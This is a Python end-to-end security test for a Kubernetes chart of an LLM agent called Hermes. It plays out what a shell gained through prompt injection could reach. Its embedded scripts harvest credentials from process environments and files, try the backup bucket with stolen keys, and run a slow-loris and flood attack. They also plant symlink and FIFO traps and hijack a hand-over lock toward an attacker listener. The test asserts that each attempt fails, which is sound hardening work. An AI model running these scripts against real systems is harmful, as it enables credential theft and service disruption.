"""The agent container after a prompt injection: what an injected shell can reach (issue 28).

Hermes runs shell commands a language model decides; one injected instruction gives an
attacker a shell as the agent's user. This scenario installs a release the way a platform team
would (two plugins from Git, backups by CronJob to the in-namespace S3 with the chart's
generated restic password, the default NetworkPolicy) and then does what that shell would:

- from a pod of another namespace, every method on every path of every port the release
  serves (the policy opened for the test, so the requests reach the servers): nothing changes
  state, the pod stays Ready and never restarts;
- from inside the agent container, as its user: looks for every credential it can read (its
  environment, every process's, every readable file) and finds neither the S3 keys nor the
  restic password; finds no ServiceAccount token; calls the entrypoint's old admin path; opens
  connections to the API server and to the backup bucket with the backup keys (both refused by
  the policy: it never held the keys, this shows the network path is shut too); writes into
  each plugin's tree (a read-only mount);
- plants traps in the data dir for the backup pod (which holds the keys): its manifest's name
  as a link out of the data dir, links into ``/proc/self``, a FIFO;
- and then the agent keeps serving: a new turn is answered, the turn before the attack is still
  in LCM, no container restarted, the next backup job succeeds, wrote nothing outside the data
  dir, and its snapshot restores (the verify Job);
- attacks the hand-over: holds ``successor.lock`` with a record pointing at a listener in
  another namespace and calls the preStop hook in a loop (the repeats are ignored, the pod stays
  ready and serving), then a real rollout: no client byte reaches the planted address, and the
  new pod answers the session.
"""

from __future__ import annotations

import base64
import json
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from kubernetes import client

from . import images, kube
from .test_network_policy import api_server_endpoint
from .test_scenario_conversation import chat, lcm_json
from .test_scenario_plugins import backends_values, git_sync_choice, git_sync_image, plugin_value

__all__ = ["git_sync_choice", "git_sync_image"]  # fixtures used below

CHART = kube.REPO_ROOT / "charts" / "hermes-agent"
CI_VALUES = images.ci_values()
BACKENDS_CHART = Path(__file__).parent / "charts" / "ci-backends"
S3_CHART = Path(__file__).parent / "charts" / "s3-backend"
IMAGES = ["agent", "fake-llm", "git-server", "seaweedfs", "busybox"]
RELEASE = "hermes"  # what test_scenario_conversation's helpers look for
FULLNAME = f"{RELEASE}-hermes-agent"
AGENT_SELECTOR = f"app.kubernetes.io/instance={RELEASE},app.kubernetes.io/component=agent"
S3_SECRET = "s3-credentials"  # what tests/e2e/charts/s3-backend creates
PLUGINS = ["weather", "tools"]
PORTS = {"api": 8642, "metrics": 9090, "lcm-metrics": 9091}
PATHS = [
    "/",
    "/pre-stop",
    "/prestop",
    "/stop",
    "/shutdown",
    "/restart",
    "/quitquitquit",
    "/ready",
    "/health",
    "/metrics",
    "/v1/models",
    "/v1/chat/completions",
    "/v1/runs",
    "/api/jobs",
    "/admin",
    "/debug/pprof/",
]
METHODS = ["GET", "POST", "PUT", "DELETE", "PATCH"]

# Every method on every path of every port, from a pod of another namespace. Prints the status
# (or the error) of each request as JSON. No credential: what anyone on the network can send.
KNOCK = """
import http.client, json, sys, time
spec = json.loads(sys.argv[1])
seen = {}
def knock(port, method, path):
    # A new pod may be refused for a moment until the CNI has its address in the policy's
    # sets: only a refusal that lasts counts.
    for attempt in range(15):
        try:
            conn = http.client.HTTPConnection(spec["host"], port, timeout=10)
            conn.request(method, path, body=b"{}" if method != "GET" else None)
            status = conn.getresponse().status
            conn.close()
            return status
        except OSError as error:
            last = repr(error)
            time.sleep(1)
    return last
for port in spec["ports"]:
    for path in spec["paths"]:
        for method in spec["methods"]:
            seen[f"{method} {port}{path}"] = knock(port, method, path)
print(json.dumps(seen))
"""

# The injected shell looks for credentials: its own environment, every process's it can read,
# every readable file (not /proc, /sys, /dev). The values to look for come on stdin, never as
# arguments. Prints where each was found (an empty list: nowhere) and what else it saw.
HUNT = """
import json, os, sys
wanted = json.loads(sys.stdin.read())
found = {name: [] for name in wanted}
def look(where, data):
    for name, value in wanted.items():
        if value.encode() in data:
            found[name].append(where)
look("env of the shell", "\\0".join(f"{k}={v}" for k, v in os.environ.items()).encode())
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                look(f"/proc/{pid}/environ", handle.read())
        except OSError:
            pass
scanned = 0
for top in ("/",):
    for root, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if os.path.join(root, d) not in ("/proc", "/sys", "/dev")]
        for name in files:
            path = os.path.join(root, name)
            try:
                if os.path.islink(path) or os.path.getsize(path) > 64 * 1024 * 1024:
                    continue
                with open(path, "rb") as handle:
                    look(path, handle.read())
                scanned += 1
            except OSError:
                pass
token = "/var/run/secrets/kubernetes.io/serviceaccount/token"
print(json.dumps({"found": found, "scanned_files": scanned, "token": os.path.exists(token)}))
"""

# The old admin path on the entrypoint's port, from inside the container: refused, no stop.
ADMIN = """
import http.client, json
seen = {}
for method in ("GET", "POST"):
    conn = http.client.HTTPConnection("127.0.0.1", 9090, timeout=10)
    conn.request(method, "/pre-stop")
    seen[method] = conn.getresponse().status
print(json.dumps(seen))
"""

# The backup bucket with the backup keys (given on stdin, as a shell that had stolen them would
# use them): list and delete. Each call's outcome, as JSON.
BUCKET = """
import json, sys
import boto3
from botocore.config import Config
keys = json.loads(sys.stdin.read())
s3 = boto3.client(
    "s3", endpoint_url="http://s3:8333", region_name="us-east-1",
    aws_access_key_id=keys["access"], aws_secret_access_key=keys["secret"],
    config=Config(connect_timeout=5, read_timeout=5, retries={"max_attempts": 1}),
)
seen = {}
for name, call in (
    ("list", lambda: s3.list_objects_v2(Bucket="backups")),
    ("delete", lambda: s3.delete_object(Bucket="backups", Key="hermes/config")),
):
    try:
        call()
        seen[name] = "done"
    except Exception as error:
        seen[name] = f"{type(error).__name__}: {error}"
print(json.dumps(seen))
"""

# Writes into each plugin's tree, directly and through the plugin link. Each outcome.
WRITE = """
import json, os, sys
seen = {}
for path in json.loads(sys.argv[1]):
    try:
        with open(path, "w") as handle:
            handle.write("def register(ctx):\\n    raise SystemExit('injected')\\n")
        seen[path] = "written"
    except OSError as error:
        seen[path] = error.strerror
print(json.dumps(seen))
"""


# From a pod of another namespace: every port held by connections that send their request
# head a byte at a time (a slow-loris), and a flood of complete requests, for SECONDS.
LORIS = """
import json, socket, sys, threading, time
spec = json.loads(sys.argv[1])
end = time.time() + spec["seconds"]
head = b"GET /ready HTTP/1.1\\r\\nHost: agent\\r\\nX-Pad: " + b"a" * 100000
closed = answered = 0
def loris(port):
    global closed
    held = []
    while time.time() < end:
        while len(held) < spec["per_port"]:
            try:
                held.append([socket.create_connection((spec["host"], port), timeout=5), 0])
            except OSError:
                break
        for item in list(held):
            try:
                item[0].send(head[item[1]:item[1] + 1]); item[1] += 1
            except OSError:
                closed += 1; item[0].close(); held.remove(item)
        time.sleep(0.5)
def flood(port):
    global answered
    while time.time() < end:
        try:
            with socket.create_connection((spec["host"], port), timeout=5) as s:
                s.sendall(b"GET /metrics HTTP/1.0\\r\\n\\r\\n")
                if s.recv(12).startswith(b"HTTP/1."): answered += 1
        except OSError:
            pass
threads = [threading.Thread(target=f, args=(p,)) for p in spec["ports"] for f in (loris, flood)]
for t in threads: t.start()
for t in threads: t.join()
print(json.dumps({"closed_by_server": closed, "flood_answered": answered}))
"""
LORIS_SECONDS = 40

# In the agent container: the traps of step 6, and what the backup left outside the data dir.
PLANT = """
import contextlib, json, os
os.makedirs("/tmp/outside", exist_ok=True)
with contextlib.suppress(FileExistsError):  # the exec may be repeated
    os.symlink("/tmp/outside", "/opt/data/.hermes-backup")
    os.symlink("/proc/self/environ", "/opt/data/environ-of-whoever-reads")
    os.symlink("/proc/self", "/opt/data/self-of-whoever-reads")
    os.mkfifo("/opt/data/never-written.fifo")
print(json.dumps({"planted": os.path.islink("/opt/data/.hermes-backup")}))
"""
OUTSIDE = "import json, os; print(json.dumps({'outside': os.listdir('/tmp/outside')}))"

# A listener in another namespace on the release's API and metrics ports: what a planted
# successor.lock points the stopping pod at. It answers every request with a made-up proof and
# prints, after each, the bytes each port has received; the API port must get none.
LISTEN = """
import json, socket, sys, threading, time
spec = json.loads(sys.argv[1])
received = {str(port): 0 for port in spec["ports"]}
def serve(port):
    server = socket.create_server(("0.0.0.0", port))
    while True:
        conn, _ = server.accept()
        conn.settimeout(2)
        try:
            data = conn.recv(65536)
            received[str(port)] += len(data)
            print(json.dumps(received), flush=True)
            conn.sendall(b"HTTP/1.0 200 OK\\r\\n\\r\\n" + b"0" * 64)
        except OSError:
            pass
        conn.close()
for port in spec["ports"]:
    threading.Thread(target=serve, args=(port,), daemon=True).start()
print(json.dumps(received), flush=True)
time.sleep(spec["seconds"])
"""

# From the agent's shell: hold successor.lock (as a waiting successor would) with a record that
# points at the listener, in a process that outlives this exec. Whether the lock is held.
HOLD_SUCCESSOR_LOCK = """
import json, subprocess, sys
code = '''
import fcntl, os, sys, time
fd = os.open("/opt/data/.hermes-runtime/successor.lock", os.O_RDWR | os.O_CREAT, 0o664)
fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
os.ftruncate(fd, 0)
os.pwrite(fd, sys.argv[1].encode(), 0)
print("held", flush=True)
time.sleep(3600)
'''
holder = subprocess.Popen(
    [sys.executable, "-c", code, sys.argv[1]], start_new_session=True,
    stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
)
print(json.dumps({"held": holder.stdout.readline().decode().strip() == "held"}))
"""

# The preStop hook called from the agent's shell, three times in a row: what each answered.
PRE_STOP_LOOP = """
import json, subprocess
answers = []
for _ in range(3):
    done = subprocess.run(
        ["hermes-runtime", "agent", "pre-stop", "--json"],
        capture_output=True, text=True, timeout=120,
    )
    answers.append(json.loads(done.stdout) if done.returncode == 0 else done.stderr[-500:])
print(json.dumps({"answers": answers}))
"""
LISTEN_SECONDS = 1800  # at most: deleted once read


@pytest.fixture
def other_namespace(cluster: kube.Cluster) -> Iterator[str]:
    name = kube.create_restricted_namespace(cluster, "e2e-compromise-other")
    yield name
    kube.delete_namespace(cluster, name)


def in_agent(
    cluster: kube.Cluster, namespace: str, script: str, *args: str, stdin: str = ""
) -> dict[str, Any]:
    """Run a Python script in the agent container, as its user, and parse its JSON line."""
    (pod,) = cluster.core.list_namespaced_pod(namespace, label_selector=AGENT_SELECTOR).items
    done = kube.exec_in_container(
        cluster,
        namespace,
        pod.metadata.name,
        "agent",
        ["python3", "-c", script, *args],
        stdin,
        timeout=600,
        repeatable=True,
    )
    assert done.returncode == 0, done.stderr[-3000:]
    return dict(json.loads(done.stdout.strip().splitlines()[-1]))


def start_listener(cluster: kube.Cluster, namespace: str) -> str:
    """The LISTEN pod in `namespace`, running; its name."""
    spec = {"ports": [PORTS["api"], PORTS["metrics"]], "seconds": LISTEN_SECONDS}
    pod = kube.restricted_pod(
        kube.unique_name("listen"), images.ref("agent"), ["python3", "-c", LISTEN, json.dumps(spec)]
    )
    cluster.core.create_namespaced_pod(namespace, pod)
    name = str(pod.metadata.name)
    kube.wait_until(lambda: "{" in pod_log_or_empty(cluster, namespace, name), 180, name)
    return name


def pod_log_or_empty(cluster: kube.Cluster, namespace: str, name: str) -> str:
    try:
        return kube.pod_log(cluster, namespace, name)
    except client.ApiException:
        return ""  # not started yet


def listener_report(cluster: kube.Cluster, namespace: str, name: str) -> dict[str, int]:
    """Bytes the LISTEN pod has received by port; the pod is deleted."""
    log = kube.pod_log(cluster, namespace, name)
    cluster.core.delete_namespaced_pod(name, namespace, grace_period_seconds=0)
    return dict(json.loads(log.strip().splitlines()[-1]))


def secret_value(cluster: kube.Cluster, namespace: str, name: str, key: str) -> str:
    data = cluster.core.read_namespaced_secret(name, namespace).data
    return base64.b64decode(data[key]).decode()


def agent_state(cluster: kube.Cluster, namespace: str) -> tuple[str, bool, dict[str, int]]:
    """The agent pod's name, whether it is Ready, and each container's restart count."""
    (pod,) = cluster.core.list_namespaced_pod(namespace, label_selector=AGENT_SELECTOR).items
    ready = any(c.type == "Ready" and c.status == "True" for c in pod.status.conditions or [])
    statuses = [*(pod.status.container_statuses or []), *(pod.status.init_container_statuses or [])]
    return pod.metadata.name, ready, {s.name: s.restart_count for s in statuses}


def values(tmp_path: Path, git_sync: dict[str, Any], other_namespace: str) -> Path:
    """ci.yaml plus two plugins, backups by CronJob to the namespace's S3, and the policy
    opened to `other_namespace` for every port, so the knocks reach the servers."""
    overrides: dict[str, Any] = {
        "plugins": [plugin_value(name) for name in PLUGINS],
        "gitSync": {"image": git_sync, "period": "1s"},
        "backup": {
            "enabled": True,
            "mode": "cronjob",
            "target": {
                "type": "s3",
                "s3": {
                    "bucket": "backups",
                    "prefix": "hermes",
                    "endpoint": "http://s3:8333",
                    "region": "us-east-1",
                    "existingSecret": S3_SECRET,
                },
            },
        },
        "networkPolicy": {
            "ingress": {
                "api": "any",
                "metricsFrom": [
                    {
                        "namespaceSelector": {
                            "matchLabels": {"kubernetes.io/metadata.name": other_namespace}
                        }
                    }
                ],
            }
        },
        "tests": {"enabled": False},
        **images.agent_values(),
    }
    path = tmp_path / "compromise.json"
    path.write_text(json.dumps(overrides))
    return path


@pytest.mark.timeout(1500)
def test_an_injected_shell_reaches_nothing_and_the_agent_keeps_serving(
    cluster: kube.Cluster,
    namespace: str,
    helm: kube.Helm,
    tmp_path: Path,
    git_sync_image: dict[str, Any],
    other_namespace: str,
) -> None:
    images.require(IMAGES)
    helm.install("backends", BACKENDS_CHART, values=[backends_values(tmp_path)], timeout="3m")
    helm.install("s3", S3_CHART, timeout="3m")
    helm.install(
        RELEASE, CHART, values=[CI_VALUES, values(tmp_path, git_sync_image, other_namespace)]
    )
    session = f"compromise-{uuid.uuid4().hex[:8]}"
    codeword = f"codeword-{uuid.uuid4().hex[:12]}"
    chat(cluster, namespace, session, [f"Please remember {codeword} for later."])
    before, ready, restarts = agent_state(cluster, namespace)
    assert ready and not any(restarts.values()), restarts

    # 1. Anyone on the network: every method, path and port. Nothing changes state.
    (pod,) = cluster.core.list_namespaced_pod(namespace, label_selector=AGENT_SELECTOR).items
    spec = {"host": pod.status.pod_ip, "ports": list(PORTS.values()), "paths": PATHS}
    knocker = kube.restricted_pod(
        kube.unique_name("knock"),
        images.ref("agent"),
        ["python3", "-c", KNOCK, json.dumps({**spec, "methods": METHODS})],
        user=10001,
    )
    result = kube.run_pod(cluster, other_namespace, knocker, timeout=600)
    assert result.phase == "Succeeded", result.logs
    knocks = json.loads(result.logs.strip().splitlines()[-1])
    answered = {k: v for k, v in knocks.items() if isinstance(v, int)}
    # The policy was opened for this test: the requests reached the servers.
    assert len(answered) == len(knocks), {k: v for k, v in knocks.items() if k not in answered}
    stop_paths = [k for k, v in answered.items() if "stop" in k.split(" ", 1)[1] and v < 400]
    assert not stop_paths, stop_paths
    assert knocks["POST 8642/v1/chat/completions"] == 401  # Hermes' own key guards the API
    kube.wait_until(
        lambda: agent_state(cluster, namespace)[1], 30, "the agent Ready after the knocks"
    )

    # 1b. A slow-loris and a flood on every port from another pod: the kubelet's /ready is
    # still answered (the pod never turns unready), the servers close the trickling ones.
    loris = kube.restricted_pod(
        kube.unique_name("loris"),
        images.ref("agent"),
        ["python3", "-c", LORIS, json.dumps(
            {**spec, "seconds": LORIS_SECONDS, "per_port": 300}
        )],
        user=10001,
    )  # fmt: skip
    cluster.core.create_namespaced_pod(other_namespace, loris)
    unready = []
    deadline = time.monotonic() + LORIS_SECONDS + 60
    while time.monotonic() < deadline:
        phase = cluster.core.read_namespaced_pod(loris.metadata.name, other_namespace).status
        if phase.phase in ("Succeeded", "Failed"):
            break
        if phase.phase == "Running" and not agent_state(cluster, namespace)[1]:
            unready.append(time.time())
        time.sleep(1)
    attack = kube.pod_log(cluster, other_namespace, loris.metadata.name)
    assert not unready, f"the agent turned unready under the slow-loris: {unready}\n{attack}"
    seen = json.loads(attack.strip().splitlines()[-1])
    assert seen["closed_by_server"] > 0 and seen["flood_answered"] > 0, seen

    # 2. Inside the agent container, as its user: credentials.
    wanted = {
        "s3 access key": secret_value(cluster, namespace, S3_SECRET, "AWS_ACCESS_KEY_ID"),
        "s3 secret key": secret_value(cluster, namespace, S3_SECRET, "AWS_SECRET_ACCESS_KEY"),
        "restic password": secret_value(
            cluster, namespace, f"{FULLNAME}-backup-password", "RESTIC_PASSWORD"
        ),
    }
    hunt = in_agent(cluster, namespace, HUNT, stdin=json.dumps(wanted))
    print(f"files scanned from inside the agent container: {hunt['scanned_files']}")
    assert hunt["scanned_files"] > 1000, hunt  # the walk really read the filesystem
    assert hunt["found"] == {name: [] for name in wanted}, hunt["found"]
    assert hunt["token"] is False  # no ServiceAccount token to call the API server with

    # 3. The entrypoint's old admin path: refused, and the pod does not stop.
    assert in_agent(cluster, namespace, ADMIN) == {"GET": 404, "POST": 405}

    # 4. The API server and the backup bucket, with the backup keys.
    api_ip, api_port = api_server_endpoint(cluster)
    connect = in_agent(
        cluster,
        namespace,
        "import json, socket, sys\n"
        "seen = {}\n"
        "for name, (host, port) in json.loads(sys.argv[1]).items():\n"
        "    try:\n"
        "        socket.create_connection((host, port), timeout=5).close(); seen[name] = 'open'\n"
        "    except OSError as error:\n"
        "        seen[name] = repr(error)\n"
        "print(json.dumps(seen))\n",
        json.dumps(
            {
                "api-service": ["kubernetes.default.svc", 443],
                "api-endpoint": [api_ip, api_port],
                "s3": ["s3", 8333],
                "fake-llm": ["fake-llm", 8080],
            }
        ),
    )
    assert connect["fake-llm"] == "open", connect  # the probe itself works
    assert all(connect[n] != "open" for n in ("api-service", "api-endpoint", "s3")), connect
    keys = {"access": wanted["s3 access key"], "secret": wanted["s3 secret key"]}
    bucket = in_agent(cluster, namespace, BUCKET, stdin=json.dumps(keys))
    assert not [call for call, outcome in bucket.items() if outcome == "done"], bucket

    # 5. Another plugin's tree, directly and through the plugin link.
    heads = {
        name: in_agent(
            cluster,
            namespace,
            "import json, os, sys; print(json.dumps({'link': os.readlink(sys.argv[1])}))",
            f"/opt/data/.git-sync/{name}/current",
        )["link"]
        for name in PLUGINS
    }
    targets = [
        *(f"/opt/data/.git-sync/{name}/{heads[name]}/__init__.py" for name in PLUGINS),
        "/opt/data/.git-sync/weather/injected.py",
        "/opt/data/plugins/weather/__init__.py",
        "/opt/data/plugins/tools/__init__.py",
    ]
    writes = in_agent(cluster, namespace, WRITE, json.dumps(targets))
    assert writes == {path: "Read-only file system" for path in targets}, writes

    # 6. Traps in the data dir for the backup pod, which holds the keys: its own manifest's
    # name planted as a link out of the data dir, links into /proc/self (its environment
    # would carry the restic password and the S3 keys), a FIFO that would hang a reader.
    planted = in_agent(cluster, namespace, PLANT)
    assert planted == {"planted": True}, planted

    # 7. The agent keeps serving and nothing is lost.
    after, ready, restarts = agent_state(cluster, namespace)
    assert (after, ready) == (before, True)
    assert not any(restarts.values()), restarts
    reply = chat(cluster, namespace, session, ["Still there?"])
    assert reply and reply[-1], reply
    found = lcm_json(cluster, namespace, "grep", codeword)
    assert found["results"], found
    job = kube.run_job_from_cronjob(cluster, namespace, f"{FULLNAME}-backup")
    assert job, "the backup job after the attack"
    # ... nothing was written outside the data dir, and the snapshot restores: the verify
    # Job restores it to scratch and checks every database (it exits 1 otherwise).
    assert in_agent(cluster, namespace, OUTSIDE) == {"outside": []}
    kube.run_job_from_cronjob(cluster, namespace, f"{FULLNAME}-verify", timeout=600)
    events = client.CoreV1Api(cluster.api).list_namespaced_event(namespace).items
    stopped = [
        f"{e.reason}: {e.message}"
        for e in events
        if e.involved_object.name == before and e.reason in ("Killing", "BackOff")
    ]
    assert not stopped, stopped

    # 8. The hand-over, attacked from the agent's shell: a successor.lock held with a record
    # that points at a listener in another namespace, then the preStop hook in a loop. The
    # first call is taken (a successor "waits": the pod stays ready and serving), the repeats
    # are ignored and logged; then a real rollout. The stopping pod asks the planted address
    # for the release's proof, gets a made-up one, and relays no client there: the listener's
    # API port receives no byte, and the new pod answers the agent's session.
    listener = start_listener(cluster, other_namespace)
    listener_ip = cluster.core.read_namespaced_pod(listener, other_namespace).status.pod_ip
    record = {"host": listener_ip, "api_port": PORTS["api"], "metrics_port": PORTS["metrics"]}
    assert in_agent(cluster, namespace, HOLD_SUCCESSOR_LOCK, json.dumps(record)) == {"held": True}
    loop = in_agent(cluster, namespace, PRE_STOP_LOOP)["answers"]
    assert all(isinstance(answer, dict) for answer in loop), loop
    assert [answer.get("ignored", False) for answer in loop] == [False, True, True], loop
    log = kube.pod_log(cluster, namespace, after, "agent")
    assert log.count("agent.pre_stop.ignored") >= 2, log[-3000:]
    name, ready, restarts = agent_state(cluster, namespace)
    assert (name, ready) == (after, True) and not any(restarts.values()), restarts
    assert chat(cluster, namespace, session, ["Are you still serving?"])[-1]

    kube.kubectl(cluster, namespace, "rollout", "restart", f"deployment/{FULLNAME}")

    def replaced() -> bool:
        pods = cluster.core.list_namespaced_pod(namespace, label_selector=AGENT_SELECTOR).items
        alone = len(pods) == 1 and pods[0].metadata.name != after
        return alone and agent_state(cluster, namespace)[1]

    kube.wait_until(replaced, 420, "the rolled-out agent pod alone and Ready")
    assert chat(cluster, namespace, session, ["Back after the rollout?"])[-1]
    assert lcm_json(cluster, namespace, "grep", codeword)["results"]
    heard = listener_report(cluster, other_namespace, listener)
    print(f"bytes the planted successor address received, by port: {heard}")
    assert heard[str(PORTS["api"])] == 0, heard
